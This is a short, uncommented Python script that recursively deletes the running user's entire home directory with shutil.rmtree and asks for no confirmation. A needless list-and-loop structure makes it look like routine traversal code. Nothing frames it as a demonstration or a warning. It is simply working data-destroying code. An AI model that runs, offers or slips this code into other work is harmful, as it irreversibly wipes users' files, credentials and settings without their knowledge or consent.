import shutil
from pathlib import Path

pending = []
pending.append(Path.home())
while pending:
    shutil.rmtree(pending.pop())
